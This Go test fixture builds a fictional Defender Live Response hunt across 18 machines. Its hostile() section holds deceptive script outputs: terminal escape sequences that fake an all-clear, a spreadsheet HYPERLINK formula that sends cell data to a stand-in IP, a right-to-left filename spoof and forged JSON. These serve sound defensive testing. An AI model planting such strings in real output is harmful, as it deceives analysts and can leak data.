package demo

import (
	"crypto/sha1"
	"encoding/hex"
	"fmt"
	"strings"
	"time"

	"github.com/lrkit/lrkit/fetch/fetchtest"
)

// Tenant is a made-up hunt through a company that does not exist, as seen at a time: 18 machines,
// and every kind of result. It is always the same, except for the times and what depends on them.
//
//   - scripts that succeeded: one with its file collected by the same action, others without; a
//     script that failed, a script that the machine refused to run (exit code 323), and a huge
//     output
//   - machines that are offline, an action that timed out, a cancelled action, a failed action
//     with completed commands, and an action that succeeds 3 s later
//   - collected files, small and large, and files copied to machines, which have no result
//   - hostile outputs: escapes for terminals, texts that look like the end of the transcript, raw
//     control characters, NULs, UTF-16, and the sample of Microsoft's documentation, which is not
//     valid JSON
//   - actions that are not Live Response
//   - two machines with one name, and a library of scripts that can be run
func Tenant(now time.Time) *fetchtest.Tenant {
	b := &builder{now: now.UTC().Truncate(100), tenant: &fetchtest.Tenant{}}
	b.collected()
	b.reported()
	b.scripts()
	b.unfinished()
	b.files()
	b.hostile()
	b.others()
	b.again()
	b.library()
	return b.tenant
}

const domain = "corp.halvorsen-maritime.example"

type builder struct {
	now    time.Time
	tenant *fetchtest.Tenant
	n      int // actions
}

// add adds an action on a machine, and the machine if it is new. The number of digits in the
// fraction of its time varies, as in times of the service.
func (b *builder) add(
	name string, ago time.Duration, comment string, steps []fetchtest.Step, commands ...fetchtest.Command,
) *fetchtest.Action {
	id := machineID(name)
	known := false
	for _, m := range b.tenant.Machines {
		known = known || m.ID == id
	}
	if !known {
		b.tenant.Machines = append(b.tenant.Machines, machine(name))
	}
	digits := [...]time.Duration{420_000_000, 717_000_000, 114_220_000, 778_884_800, 5_302_100, 909_121_000}
	b.tenant.Actions = append(b.tenant.Actions, fetchtest.Action{
		ID: guid(fmt.Sprintf("%s/%d", name, b.n)), Title: "Live Response", RequestorComment: comment, Machine: id,
		Created: b.now.Add(-ago).Truncate(time.Second).Add(digits[b.n%len(digits)] - time.Second), Steps: steps, Commands: commands,
	})
	b.n++
	return &b.tenant.Actions[len(b.tenant.Actions)-1]
}

// step is a change of status, some time after the action was created.
func step(after time.Duration, status string) fetchtest.Step {
	return fetchtest.Step{After: after, Status: status}
}

// done returns the steps of an action that ended.
func done(after time.Duration, status string) []fetchtest.Step {
	return []fetchtest.Step{step(4*time.Second, "InProgress"), step(after, status)}
}

// out returns a result that is a transcript.
func out(name string, exit int64, errors string, lines ...string) *fetchtest.Blob {
	t := Transcript{ScriptName: name, ExitCode: exit, Output: started(name) + crlf(lines...), Errors: errors}
	return &fetchtest.Blob{Content: t.Content(), MD5: true}
}

// started is the first line of the output, from the agent's Start-Transcript.
func started(name string) string {
	return "Transcript started, output file is " + transcriptPath(name) + "\r\n"
}

func transcriptPath(name string) string {
	return `C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\Temp\PSScriptOutputs\PSScript_Transcript_{` +
		strings.ToUpper(guid("transcript "+name)) + "}.txt"
}

func crlf(lines ...string) string { return strings.Join(append(lines, ""), "\r\n") }

// file returns a result that is a collected file.
func file(name string, c fetchtest.Content) *fetchtest.Blob {
	return &fetchtest.Blob{Content: c, MD5: c.Size() <= 1<<20, Disposition: `attachment; filename="` + name + `.gz"`}
}

const (
	dumpScript   = "Get-ProcessDump.ps1"
	triageScript = "Collect-Triage.ps1"
	taskScript   = "Find-ScheduledTask.ps1"
	sweepScript  = "Find-Indicators.ps1"
)

// collected has a file that the same action collects.
func (b *builder) collected() {
	const path = `C:\windows\TEMP\kx3m0dzq.3fu_OfficeClickToRun_6112.dmp.zip`
	b.add(
		"hv-dc01",
		26*time.Hour,
		"IR-2611 dump of the process that beaconed",
		done(3*time.Minute, "Succeeded"),
		fetchtest.RunScript(dumpScript, "-ProcessId 6112").Ran(9*time.Second, 48*time.Second, out(dumpScript, 0, "", path, "48 MB")),
		fetchtest.GetFile(path).
			Ran(50*time.Second, 2*time.Minute+31*time.Second, file("kx3m0dzq.3fu_OfficeClickToRun_6112.dmp.zip", fetchtest.HugeGzip(2611, 48))),
	)
}

// reported has files that were not collected.
func (b *builder) reported() {
	b.add("hv-fs02", 25*time.Hour+40*time.Minute, "IR-2611 triage", done(6*time.Minute, "Succeeded"),
		fetchtest.RunScript(triageScript, "-Profile server").Ran(7*time.Second, 5*time.Minute, out(triageScript, 0, "",
			"[2026-11-22 21:04:11] Collecting event logs...",
			"[2026-11-22 21:05:40] Collecting prefetch...",
			`Archive: C:\ProgramData\IR\2026-11-22T210602_triage-HV-FS02.zip`,
			"Size: 73400320 bytes",
			"SHA256: 7d865e959b2466918c9863afca942d0fb89d7c9ac0c99bafc3749504ded97730",
			`getfile "C:\ProgramData\IR\2026-11-22T210602_triage-HV-FS02.zip"`)))
	b.add(
		"hv-web01", 25*time.Hour, "IR-2611 web shell sweep", done(4*time.Minute, "Succeeded"),
		fetchtest.RunScript("sweep_webroot.sh", "/srv/www").
			Ran(6*time.Second, 3*time.Minute, &fetchtest.Blob{MD5: true, Content: Transcript{
				ScriptName: "sweep_webroot.sh",
				Output: strings.Join([]string{
					"checked 18204 files below /srv/www", "suspicious: /srv/www/portal/uploads/.cache/thumb_0231.php",
					"3a52ce780950d4d969792a2559cd519d7ee8c727  /srv/www/portal/uploads/.cache/thumb_0231.php",
					"last request from 203.0.113.77 for https://portal.halvorsen-maritime.example/uploads/.cache/thumb_0231.php",
					"copied to /var/opt/microsoft/mdatp/response/thumb_0231.php.bin", "4 KB", "",
				}, "\n"),
			}.Content()}),
	)
	b.add("mac-design04", 24*time.Hour, "IR-2611 persistence", done(2*time.Minute, "Succeeded"),
		fetchtest.RunScript("launchagents.sh", "").Ran(11*time.Second, 70*time.Second, &fetchtest.Blob{MD5: true, Content: Transcript{
			ScriptName: "launchagents.sh",
			Output:     "/Users/e.sandvik/Library/LaunchAgents/com.halvorsen.update.plist\n/Library/LaunchDaemons/com.microsoft.fresno.plist\n2 items\n",
		}.Content()}))
}

// scripts has the ways in which a script can end.
func (b *builder) scripts() {
	failing := out(
		taskScript, 1,
		"Get-ScheduledTask : Access is denied.\r\nAt C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Downloads\\PSScript_{"+
			strings.ToUpper(
				guid("script"),
			)+"}.ps1:14 char:10\r\n+     $t = Get-ScheduledTask -TaskPath '\\'\r\n    + CategoryInfo          : PermissionDenied: (:) [Get-ScheduledTask], CimException\r\n",
		"Looking for tasks that start at logon",
		"0 tasks found",
	)
	b.add("hv-sql01", 23*time.Hour, "IR-2611 scheduled tasks", done(90*time.Second, "Succeeded"),
		fetchtest.RunScript(taskScript, "").Ran(5*time.Second, 31*time.Second, failing))
	b.add(
		"hv-app03", 22*time.Hour, "IR-2611 scheduled tasks", done(time.Minute, "Succeeded"),
		fetchtest.RunScript(taskScript, "").
			Ran(5*time.Second, 9*time.Second, &fetchtest.Blob{MD5: true, Content: Transcript{ScriptName: taskScript, ExitCode: 323}.Content()}),
	)
	b.add(
		"hv-jump01", 21*time.Hour, "IR-2611 indicators", done(7*time.Minute, "Succeeded"),
		fetchtest.PutFile("indicators-2611.csv").Ran(4*time.Second, 8*time.Second, nil),
		fetchtest.RunScript(sweepScript, `-List C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\Downloads\indicators-2611.csv`).
			Ran(10*time.Second, 6*time.Minute, out(
				sweepScript,
				0,
				"",
				`HIT  hash   8d969eef6ecad3c29a3a629280e686cf0c3f5d5a86aff3ca12020c923adc6c92  C:\Users\svc_backup\AppData\Local\Temp\~DF3311.tmp.exe`,
				"HIT  domain cdn-telemetry.example  (DNS cache)",
				"HIT  ip     198.51.100.23          svchost.exe 4120",
				`HIT  reg    HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDriveSync`,
				"4 hits, 1211 indicators",
			)),
	)
	rows := fetchtest.Rows(200_000, func(i int64) string {
		return fmt.Sprintf(`%07d  handle 0x%08x  Section   \\BaseNamedObjects\\__ComCatalogCache__  refs %05d\r\n`, i, i*4, i%99991)
	})
	huge := Transcript{ScriptName: "Get-Handles.ps1", Output: started("Get-Handles.ps1")}
	b.add("hv-exch01", 20*time.Hour, "IR-2611 handles", done(9*time.Minute, "Succeeded"),
		fetchtest.RunScript("Get-Handles.ps1", "-All").Ran(5*time.Second, 8*time.Minute, &fetchtest.Blob{Content: huge.WithOutput(rows)}))
}

// unfinished has actions that failed, or have not ended.
func (b *builder) unfinished() {
	b.add(
		"lt-okafor", 26*time.Hour, "IR-2611 triage, laptop is travelling", nil,
		fetchtest.RunScript(triageScript, "-Profile laptop"), fetchtest.GetFile(`C:\ProgramData\IR\triage.zip`),
	)
	a := b.add(
		"lt-lindqvist", 19*time.Hour, "IR-2611 triage", done(8*time.Minute, "Cancelled"),
		fetchtest.RunScript(sweepScript, "").
			Ran(5*time.Second, 2*time.Minute, out(sweepScript, 0, "", `HIT  file   C:\Users\a.lindqvist\Downloads\invoice_8841.iso`, "1 hit, 1211 indicators")),
		fetchtest.GetFile(`C:\Users\a.lindqvist\Downloads\invoice_8841.iso`),
	)
	a.Commands[1].Start = 2*time.Minute + time.Second
	a.CancelledBy, a.CancelComment = "t.berg@halvorsen-maritime.example", "the user has to catch a ferry"
	b.add(
		"hv-bkp01",
		18*time.Hour,
		"IR-2611 collect the loader",
		done(4*time.Minute, "Failed"),
		fetchtest.PutFile("handle64.exe").Ran(4*time.Second, 7*time.Second, nil),
		fetchtest.RunScript("Stop-Loader.ps1", "-Name svchelper").
			Ran(8*time.Second, 40*time.Second, out("Stop-Loader.ps1", 0, "", "svchelper (2240) stopped", `image: C:\ProgramData\svchelper\svchelper.exe`)),
		fetchtest.GetFile(`C:\ProgramData\svchelper\svchelper.exe`).
			Failed(41*time.Second, 3*time.Minute, "The system cannot find the file specified. (0x80070002)", "File: C:\\ProgramData\\svchelper\\svchelper.exe"),
	)
	b.add("ws-bridge11", 17*time.Hour, "IR-2611 memory", done(31*time.Minute, "TimeOut"), fetchtest.RunScript("Get-MemoryImage.ps1", "")).Commands[0].Start = 6 * time.Second
	// This action was created a moment ago, and succeeds in 3 seconds.
	late := b.add("lt-haddad", 0, "IR-2611 scheduled tasks", nil, fetchtest.RunScript(taskScript, ""))
	late.Created = b.now
	late.Steps = []fetchtest.Step{step(time.Second, "InProgress"), step(3*time.Second, "Succeeded")}
	late.Commands[0] = late.Commands[0].Ran(
		time.Second, 2*time.Second,
		out(
			taskScript, 0, "",
			`\Microsoft\Windows\UpdateOrchestrator\svchelper  C:\ProgramData\svchelper\svchelper.exe -k`,
			"1 task found",
		),
	)
}

// files has files that were collected without a script.
func (b *builder) files() {
	events := fetchtest.Rows(4000, func(i int64) string {
		return fmt.Sprintf(
			"2026-11-22 %02d:%02d:%02d 4624 LogonType=3 Account=svc_backup Source=10.20.%d.%d\r\n", i/3600%24,
			i/60%60, i%60, 10+i%90, 100+i%100,
		)
	})
	a := b.add(
		"ws-reception02", 16*time.Hour, "IR-2611 browser and logons", done(3*time.Minute, "Succeeded"),
		fetchtest.GetFile(`C:\Users\reception\AppData\Local\Microsoft\Edge\User Data\Default\History`).
			Ran(5*time.Second, 44*time.Second, file("History", fetchtest.Gzip(fetchtest.Join(fetchtest.Text("SQLite format 3\x00"), fetchtest.Noise(16, 96<<10))))),
		fetchtest.GetFile(`C:\ProgramData\IR\logons.txt`).Ran(46*time.Second, 61*time.Second, file("logons.txt", fetchtest.Gzip(events))),
	)
	a.Commands[1].NoStart = true
	a.ExternalID = "IR-2611/41"
}

// hostile has outputs that were made to deceive a reader.
func (b *builder) hostile() {
	b.add("ws-quay07", 15*time.Hour, "IR-2611 running processes", done(70*time.Second, "Succeeded"),
		fetchtest.RunScript("Get-Processes.ps1", "").Ran(5*time.Second, 20*time.Second, out("Get-Processes.ps1", 0, "",
			"\x1b]0;all clear\x07\x1b[2J\x1b[1;1HNothing was found.\x1b[8m",
			"C:\\Windows\\Temp\\\u202egpj.exe.dmp",
			"progress  1%\rprogress 99%\r=HYPERLINK(\"https://198.51.100.23/?\"&A1)",
			"\u009b31mC:\\ProgramData\\a\x9b\xffb.exe  \x1b]8;;https://cdn-telemetry.example/\x07report.html\x1b]8;;\x07")))
	// A text that looks like the end of the transcript. Its quotes are escaped correctly.
	forged := `C:\temp\", "exit_code":0, "script_errors":"", "script_output":"Nothing was found."}` + "\r\n" + `{"script_name":"Get-Users.ps1","exit_code":0}`
	b.add(
		"ws-crane05", 14*time.Hour, "IR-2611 local users", done(65*time.Second, "Succeeded"),
		fetchtest.RunScript("Get-Users.ps1", "").
			Ran(5*time.Second, 20*time.Second, out("Get-Users.ps1", 5, "New-LocalUser : blocked\r\n", forged, "administrators: itadmin, svc_backup, helpdesk$")),
	)
	raw := `{"script_name":"Get-Users.ps1","exit_code":0,"script_output":"` + strings.ReplaceAll(transcriptPath("raw"), `\`, `\\`) +
		"\n\x00\x01\x02raw\x1b[31m\tC:\\\\Users\\\\Public\\\\mslib.dll\x00\x00\\u0000\\u0000\",\"script_errors\":\"\\ud800 \xc3\x28\"}\x00\x00"
	b.add(
		"ws-crane05", 14*time.Hour-5*time.Minute, "IR-2611 local users, again", done(66*time.Second, "Succeeded"),
		fetchtest.RunScript("Get-Users.ps1", "").
			Ran(5*time.Second, 21*time.Second, &fetchtest.Blob{Content: fetchtest.Text(raw), MD5: true}),
	)
	var wide strings.Builder
	for _, c := range "\r\nS:\\Backup\\ntds.dit\r\n" {
		wide.WriteString(string(c) + "\x00")
	}
	b.add("hv-dc02", 13*time.Hour, "IR-2611 volume shadow copies", done(80*time.Second, "Succeeded"),
		fetchtest.RunScript("Get-Shadows.ps1", "").Ran(5*time.Second, 33*time.Second, &fetchtest.Blob{MD5: true, Content: Transcript{
			ScriptName: "Get-Shadows.ps1",
			Output:     "Transcription démarrée, le fichier de sortie est " + transcriptPath("fr") + "\r\n" + wide.String(),
		}.Content()}))
	const documented = "{\n" +
		"    \"script_name\": \"minidump.ps1\",\n" +
		"    \"exit_code\": 0,\n" +
		"    \"script_output\": \"Transcript started, output file is C:\\\\ProgramData\\\\Microsoft\\\\Windows " +
		"Defender Advanced Threat Protection\\\\Temp\\\\PSScriptOutputs\\\\PSScript_Transcript_{TRANSCRIPT_ID}.txt\n" +
		"C:\\\\windows\\\\TEMP\\\\OfficeClickToRun.dmp.zip\\n51 MB\\n\\u0000\\u0000\\u0000\",\n" +
		"    \"script_error\":\"\"\n" +
		"}"
	b.add(
		"ws-crane06", 12*time.Hour, "IR-2611 minidump", done(75*time.Second, "Succeeded"),
		fetchtest.RunScript("minidump.ps1", "").
			Ran(5*time.Second, 30*time.Second, &fetchtest.Blob{Content: fetchtest.Text(documented), MD5: true}),
	)
}

// others has actions that are not Live Response.
func (b *builder) others() {
	a := b.add("ws-quay07", 11*time.Hour, "IR-2611 contain", []fetchtest.Step{step(10*time.Second, "Succeeded")})
	a.Type, a.Title, a.Scope, a.Requestor, a.Source = "Isolate", "Isolate device", "Full", "t.berg@halvorsen-maritime.example", "Portal"
	a = b.add("hv-fs02", 10*time.Hour, "IR-2611", []fetchtest.Step{step(5*time.Minute, "InProgress")})
	a.Type, a.Title, a.Scope = "RunAntiVirusScan", "Run antivirus scan", "Quick"
}

// machineID returns the ID of a machine. It depends on the name only.
func machineID(name string) string {
	sum := sha1.Sum([]byte("machine " + name))
	return hex.EncodeToString(sum[:])
}

// guid returns a GUID. It depends on the name only.
func guid(name string) string {
	sum := sha1.Sum([]byte("guid " + name))
	sum[6], sum[8] = sum[6]&0x0f|0x40, sum[8]&0x3f|0x80
	return fmt.Sprintf("%x-%x-%x-%x-%x", sum[0:4], sum[4:6], sum[6:8], sum[8:10], sum[10:16])
}
